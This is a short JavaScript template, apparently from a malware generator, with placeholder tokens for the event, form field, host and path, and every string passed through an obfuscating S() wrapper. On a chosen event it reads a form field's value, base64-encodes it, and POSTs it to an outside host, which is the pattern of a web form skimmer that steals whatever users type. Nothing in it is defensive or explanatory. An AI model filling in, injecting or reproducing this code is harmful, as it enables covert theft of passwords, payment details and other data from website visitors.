document[S("addEventListener")](S("%EVENT%"), function () {
  var %H1% = document[S("querySelector")](S("%FIELD%"));
  if (!%H1% || !%H1%[S("value")]) return;
  var %H2% = new window[S("XMLHttpRequest")]();
  %H2%[S("open")](S("POST"), S("https://%HOST%/%PATH%"));
  %H2%[S("send")](window[S("btoa")](%H1%[S("value")]));
});
